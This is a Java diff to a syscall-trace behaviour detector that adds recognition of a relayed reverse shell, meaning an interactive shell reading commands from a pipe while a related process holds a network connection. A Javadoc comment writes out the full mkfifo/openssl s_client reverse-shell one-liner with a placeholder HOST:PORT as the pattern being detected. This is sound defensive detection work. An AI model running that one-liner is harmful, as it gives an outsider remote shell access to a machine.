@@ -131,6 +131,16 @@ final class BehaviourAccumulator implements FeatureAccumulator {
     private double writeBytes;
     private double netBytes;
     private boolean connectedInet;
+    /**
+     * Its program is an interactive shell that takes its commands from stdin: {@code -i} without {@code -c}
+     * (set at each exec).
+     */
+    private boolean commandShell;
+    /**
+     * Its stdin, as far as the trace shows, is a pipe, a FIFO, a socket or a file rather than a terminal: a
+     * {@code dup2} onto fd 0 (inherited at fork, kept across exec) or a read of fd 0, by their {@code -y} decoration.
+     */
+    private boolean stdinNotTerminal;
 
     private int windowFill;
     private int windowFailed;
@@ -229,6 +239,7 @@ final class BehaviourAccumulator implements FeatureAccumulator {
             underPackageTool = parent.underPackageTool;
             cwd = parent.cwd;
             treeArgv = parent.treeArgv;
+            stdinNotTerminal = parent.stdinNotTerminal;
             for (int k = 0; k < FILE_KINDS; k++) {
                 made[k] = parent.made[k] == null ? null : parent.made[k].clone();
             }
@@ -396,6 +407,7 @@ final class BehaviourAccumulator implements FeatureAccumulator {
                     marks[Feature.NET_ACCEPT_LOG.ordinal()]++;
                     if (isInetSocket(Arguments.nth(e.arguments(), 0))) {
                         markInetFd(e.returnValue());
+                        familyOnline();
                     }
                 }
             }
@@ -947,6 +959,7 @@ final class BehaviourAccumulator implements FeatureAccumulator {
             if (ok || e.errno() == 115) {
                 connectedInet = true;
                 markInetFd(Arguments.fd(e.arguments()));
+                familyOnline();
             }
             note(EvidenceLog.MEDIUM, e, String.valueOf(Arguments.fd(e.arguments())), where); // joined only if the log may keep it
         }
@@ -1006,6 +1019,9 @@ final class BehaviourAccumulator implements FeatureAccumulator {
         if (!ok || to < 0) {
             return;
         }
+        if (to == 0) {
+            stdinNotTerminal = notTerminal(Arguments.fdDecoration(from)); // cat f | sh -i: the pipe made fd 0 before the exec
+        }
         if (inet) {
             markInetFd(to);
             if (to <= 2) {
@@ -1028,6 +1044,58 @@ final class BehaviourAccumulator implements FeatureAccumulator {
             set(Feature.NET_STDIO_SOCKET_IO);
             note(EvidenceLog.HIGH, e, fd + "<" + Arguments.fdDecoration(fdArg) + ">, ...");
         }
+        if (fd == 0 && commandShell && !stdinNotTerminal && isRead(e.syscall()) && notTerminal(Arguments.fdDecoration(fdArg))) {
+            stdinNotTerminal = true;
+            note(EvidenceLog.HIGH, e, "0<" + Arguments.fdDecoration(fdArg) + ">, ..."); // an interactive shell reading a pipe
+        }
+    }
+
+    private static boolean isRead(int id) {
+        return id == Syscalls.READ || id == Syscalls.READV || id == Syscalls.PREAD64;
+    }
+
+    /**
+     * @param decoration the {@code -y} text of a descriptor, e.g. {@code pipe:[1234]}, {@code /dev/pts/0<char 136:0>}
+     * @return true for a pipe, socket or file (a FIFO shows as its path); false for a device under /dev (a terminal,
+     *     /dev/null) and for no decoration (a trace without -y says nothing)
+     */
+    private static boolean notTerminal(CharSequence decoration) {
+        int n = decoration.length();
+        return n > 0 && !(n >= 5 && decoration.charAt(0) == '/' && decoration.charAt(1) == 'd' && decoration.charAt(2) == 'e'
+                && decoration.charAt(3) == 'v' && decoration.charAt(4) == '/');
+    }
+
+    /**
+     * Marks the fork nodes it shares with its family as having a network connection: its own (its children's parent
+     * node), its parent's (its siblings') and the two above (its cousins'), for {@link #relayedShell()}.
+     */
+    private void familyOnline() {
+        node().online = true;
+        if (parentNode != null) {
+            parentNode.online = true;
+        }
+        if (nodesAbove != null) {
+            for (ForkNode n : nodesAbove) {
+                if (n != null) {
+                    n.online = true;
+                }
+            }
+        }
+    }
+
+    /**
+     * @return true when it is an interactive shell reading its commands from a pipe, FIFO or socket while it, its
+     *     parent, a sibling or a cousin (below its great-grandparent) holds an inet connection: the relay reverse shell,
+     *     {@code mkfifo f; cat f | sh -i 2>&1 | openssl s_client -connect HOST:PORT > f} (or nc, socat)
+     */
+    private boolean relayedShell() {
+        if (!commandShell || !stdinNotTerminal) {
+            return false;
+        }
+        if (connectedInet || parentNode != null && parentNode.online) { // not its own node: the commands it runs may go online
+            return true;
+        }
+        return nodesAbove != null && (nodesAbove[0] != null && nodesAbove[0].online || nodesAbove[1] != null && nodesAbove[1].online);
     }
 
     /** @return true for a {@code -yy} decoration of a TCP/UDP socket */
@@ -1349,6 +1417,7 @@ final class BehaviourAccumulator implements FeatureAccumulator {
         if ((kind & ExecRules.SHELL) != 0 && connectedInet) {
             set(Feature.IND_REVERSE_SHELL);
         }
+        commandShell = (kind & ExecRules.SHELL_INTERACTIVE) != 0 && (kind & ExecRules.SHELL_C) == 0;
         permissionHunt |= Indicators.permissionHunt(base, argv);
     }
 
@@ -1633,6 +1702,8 @@ final class BehaviourAccumulator implements FeatureAccumulator {
         private final long[][] endedChildren = new long[FILE_KINDS][];
         /** {@link #replacedFiles} of its children that ended and of theirs. */
         private int replacedBelow;
+        /** A process holding this node connected to, or accepted from, an inet address ({@link #familyOnline()}). */
+        private boolean online;
 
         void childEnded(long[][] made) {
             for (int k = 0; k < FILE_KINDS; k++) {
@@ -1666,7 +1737,7 @@ final class BehaviourAccumulator implements FeatureAccumulator {
         if (ports != null && ports.estimate() >= SCAN_PORTS) {
             v[Feature.IND_PORT_SCAN.ordinal()] = 1;
         }
-        if (marks[Feature.NET_DUP_SOCKET_TO_STDIO.ordinal()] > 0 || marks[Feature.NET_STDIO_SOCKET_IO.ordinal()] > 0) {
+        if (marks[Feature.NET_DUP_SOCKET_TO_STDIO.ordinal()] > 0 || marks[Feature.NET_STDIO_SOCKET_IO.ordinal()] > 0 || relayedShell()) {
             v[Feature.IND_REVERSE_SHELL.ordinal()] = 1;
         }
         if (forkFailedEagain || concurrentChain() >= FORK_STORM_CHAIN || forkNode != null && forkNode.storm || stormAbove()) {
